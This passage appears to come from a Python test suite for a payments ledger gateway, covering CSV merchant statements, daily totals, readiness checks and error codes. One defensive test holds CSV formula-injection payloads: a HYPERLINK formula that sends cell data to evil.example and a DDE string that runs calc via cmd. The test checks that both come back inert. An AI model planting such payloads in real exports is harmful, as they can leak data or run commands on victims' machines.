    shop = await _open(gateway, admin, owner_kind="merchant", owner_id="shop-1", purse_kind="merchant_settlement")
    lunch = (await _pay(gateway, tenant_id, merchant_id=canteen, legs=[(cash_id, 1_200)], key="pos-3:0001",
                        device_id="pos-3")).transfer
    dinner = (await _pay(gateway, tenant_id, merchant_id=canteen, legs=[(cash_id, 1_100)], key="pos-3:0002",
                         device_id="pos-3")).transfer
    await _pay(gateway, tenant_id, merchant_id=shop, legs=[(cash_id, 700)], device_id="shop-pos")
    refund = await gateway.http.post(f"/v1/tenants/{tenant_id}/payments/{dinner.transfer_id}/refunds",
                                     headers={**admin.headers, "Idempotency-Key": "refund-0002"},
                                     json={"amount_fen": 500, "external_ref": "cold soup"})
    assert refund.status_code == 201, refund.text
    today = datetime.now(SHANGHAI).date().isoformat()

    url = f"/v1/tenants/{tenant_id}/statements"
    query = {"merchant_account_id": canteen, "date": today, "time_zone": "Asia/Shanghai"}
    statement = await gateway.http.get(url, headers=merchant.headers, params=query)
    assert statement.status_code == 200, statement.text
    assert statement.headers["content-type"].startswith("text/csv")
    assert "attachment" in statement.headers["content-disposition"]
    lines = list(csv.DictReader(io.StringIO(statement.text)))
    assert list(lines[0].keys()) == ["booked_at", "event_time", "transfer_id", "kind", "merchant_fen", "device_id",
                                     "external_ref", "idempotency_key"]
    by_id = {line["transfer_id"]: line for line in lines}
    assert set(by_id) == {lunch.transfer_id, dinner.transfer_id, refund.json()["transfer"]["transfer_id"]}
    assert (by_id[lunch.transfer_id]["kind"], by_id[lunch.transfer_id]["merchant_fen"]) == ("payment", "1200")
    assert by_id[lunch.transfer_id]["device_id"] == "pos-3"
    assert by_id[lunch.transfer_id]["idempotency_key"] == "pos-3:0001"
    refund_line = by_id[refund.json()["transfer"]["transfer_id"]]
    assert (refund_line["kind"], refund_line["merchant_fen"]) == ("refund", "-500")
    assert (refund_line["external_ref"], refund_line["idempotency_key"]) == ("cold soup", "refund-0002")
    for line in lines:
        booked = datetime.fromisoformat(line["booked_at"])
        assert booked.astimezone(SHANGHAI).date().isoformat() == today
        assert datetime.fromisoformat(line["event_time"])

    totals = await gateway.http.get(f"{url}/totals", headers=merchant.headers, params=query)
    assert totals.status_code == 200, totals.text
    body = totals.json()
    assert (body["payments"], body["payments_fen"], body["refunds"], body["refunds_fen"], body["net_fen"]) == (
        2, 2_300, 1, 500, 1_800)
    assert body["date"] == today and body["time_zone"] == "Asia/Shanghai"
    assert body["day_start"] and body["day_end"]

    # The same day for the device; and a day without business.
    device = await gateway.http.get(url, headers=merchant.headers, params={"device_id": "pos-3", "date": today})
    assert device.status_code == 200, device.text
    assert {line["transfer_id"] for line in csv.DictReader(io.StringIO(device.text))} >= {lunch.transfer_id,
                                                                                         dinner.transfer_id}
    empty = await gateway.http.get(url, headers=merchant.headers, params={**query, "date": "2001-01-01"})
    assert empty.status_code == 200 and empty.text.strip().split("\n") == [
        "booked_at,event_time,transfer_id,kind,merchant_fen,device_id,external_ref,idempotency_key"]
    both = await gateway.http.get(url, headers=merchant.headers, params={**query, "device_id": "pos-3"})
    assert_problem(both, 400, reason="STATEMENT_SUBJECT_REQUIRED")
    assert_problem(await gateway.http.get(url, headers=merchant.headers, params={**query, "date": "26.11.2026"}),
                   422, reason="VALIDATION_FAILED")


HOSTILE_REF = '=HYPERLINK("https://evil.example/?"&A2,"refund")'
HOSTILE_KEY = "@SUM(1+1)*cmd|'/Ccalc'!A0"
HOSTILE_DEVICE = "+pos-9"


async def test_text_partners_sent_comes_back_inert_in_the_statement_and_amounts_stay_numbers(
        ledger_gateway: Gateway) -> None:
    """The attack: a payment's external_ref (and key, and device id) written as a formula came
    back live in the merchant's CSV. Now each such cell is text with a leading apostrophe; the
    refund's -500, a number the ledger computed, is not touched."""
    gateway = ledger_gateway
    bank, admin, merchant = await _accesses(gateway)
    tenant_id = bank.tenant_id
    member_id = await _member(gateway, tenant_id, "W750")
    write = await _top_up(gateway, bank, member_id, 5_000)
    (cash_id,) = [p["account_id"] for p in write["transfer"]["postings"] if p["amount_fen"] > 0]
    canteen = await _open(gateway, admin, owner_kind="merchant", owner_id="canteen-9", purse_kind="merchant_settlement")
    paid = (await _pay(gateway, tenant_id, merchant_id=canteen, legs=[(cash_id, 1_200)], key=HOSTILE_KEY,
                       device_id=HOSTILE_DEVICE, external_ref=HOSTILE_REF)).transfer
    refund = await gateway.http.post(f"/v1/tenants/{tenant_id}/payments/{paid.transfer_id}/refunds",
                                     headers={**admin.headers, "Idempotency-Key": "-1+1"},
                                     json={"amount_fen": 500, "external_ref": "-cold soup"})
    assert refund.status_code == 201, refund.text

    statement = await gateway.http.get(f"/v1/tenants/{tenant_id}/statements", headers=merchant.headers, params={
        "merchant_account_id": canteen, "date": datetime.now(SHANGHAI).date().isoformat()})
    assert statement.status_code == 200, statement.text
    raw = statement.text.splitlines()
    for line in raw[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), line
            assert not cell.startswith("-") or cell == "-500", line
    by_kind = {line["kind"]: line for line in csv.DictReader(io.StringIO(statement.text))}
    assert by_kind["payment"]["external_ref"] == "'" + HOSTILE_REF
    assert by_kind["payment"]["idempotency_key"] == "'" + HOSTILE_KEY
    assert by_kind["payment"]["device_id"] == "'" + HOSTILE_DEVICE
    assert (by_kind["refund"]["external_ref"], by_kind["refund"]["idempotency_key"]) == ("'-cold soup", "'-1+1")
    # The amounts are bare numbers in the file: the refund's line holds ,-500, unquoted.
    (refund_line,) = [line for line in raw if refund.json()["transfer"]["transfer_id"] in line]
    assert ",-500," in refund_line and ",1200," in next(line for line in raw if paid.transfer_id in line)


# --- configuration, readiness and the not-yet-implemented ----------------------------------------


async def test_without_a_ledger_the_routes_answer_503_and_readiness_leaves_it_out(identity: Any) -> None:
    settings = gateway_settings(identity_target=identity.target)
    async with running_gateway(settings) as (_app, http):
        gateway = Gateway(app=_app, http=http, stub=identity.stub, settings=settings)
        bank = await gateway.tenant_access(scopes=(WALLETS_READ,))
        response = await http.get(f"/v1/tenants/{bank.tenant_id}/payments/lookup", headers=bank.headers,
                                  params={"idempotency_key": "k"})
        assert_problem(response, 503, reason="LEDGER_NOT_CONFIGURED")


async def test_readiness_names_the_ledger_when_it_is_down(identity: Any, codegen_service: Any) -> None:
    settings = gateway_settings(identity_target=identity.target, codegen_target=codegen_service.target,
                                ledger_target=f"127.0.0.1:{free_port()}", ready_timeout_s=0.5)
    async with running_gateway(settings) as (_app, http):
        deadline = asyncio.get_running_loop().time() + 10
        while True:
            body = assert_problem(await http.get("/readyz"), 503, reason="NOT_READY")
            if body["not_ready"] == ["ledger"]:
                break
            assert asyncio.get_running_loop().time() < deadline, body
            await asyncio.sleep(0.05)


async def test_readiness_includes_a_serving_ledger(identity: Any, codegen_service: Any, ledger_service: Any) -> None:
    settings = gateway_settings(identity_target=identity.target, codegen_target=codegen_service.target,
                                ledger_target=ledger_service.target)
    async with running_gateway(settings) as (_app, http):
        deadline = asyncio.get_running_loop().time() + 10
        while (response := await http.get("/readyz")).status_code != 200:
            assert asyncio.get_running_loop().time() < deadline, response.text
            await asyncio.sleep(0.05)
        assert response.json() == {"status": "ready"}


def test_an_operation_the_service_does_not_offer_is_501() -> None:
    mapping = http_mapping(grpc.StatusCode.UNIMPLEMENTED)
    assert mapping.status == 501 and not mapping.show_detail


async def test_a_grant_batch_in_another_media_type_is_415(ledger_gateway: Gateway) -> None:
    gateway = ledger_gateway
    _bank, admin, _merchant = await _accesses(gateway)
    response = await gateway.http.post(f"/v1/tenants/{admin.tenant_id}/subsidy-batches",
                                       headers={**admin.headers, "Content-Type": "text/plain"}, content=b"hello")
    assert_problem(response, 415, reason="UNSUPPORTED_MEDIA_TYPE")
    bad_json = await gateway.http.post(f"/v1/tenants/{admin.tenant_id}/subsidy-batches", headers=admin.headers,
                                       json={"bill_number": "B", "purse_kind": "cash", "ref": "r", "rows": []})
    assert_problem(bad_json, 422, reason="VALIDATION_FAILED")


async def test_a_ledger_without_the_operation_answers_501(identity: Any) -> None:
    # A real gRPC server that offers no LedgerService at all, as a ledger older than the gateway
    # would lack a newer RPC: every call to it is UNIMPLEMENTED.
    server = grpc.aio.server()
    port = server.add_secure_port("127.0.0.1:0", pki().tls("ledger").server_credentials())
    await server.start()
    try:
        settings = gateway_settings(identity_target=identity.target, ledger_target=f"127.0.0.1:{port}")
        async with running_gateway(settings) as (app, http):
            gateway = Gateway(app=app, http=http, stub=identity.stub, settings=settings)
            admin = await gateway.tenant_access(scopes=(LEDGER_ADMIN,))
            response = await http.get(f"/v1/tenants/{admin.tenant_id}/subsidy-programs/subsidy/meal-2026",
                                      headers=admin.headers)
            body = assert_problem(response, 501, reason="NOT_IMPLEMENTED")
            assert body["detail"] == "this operation is not available on this server yet"
    finally:
        await server.stop(None)
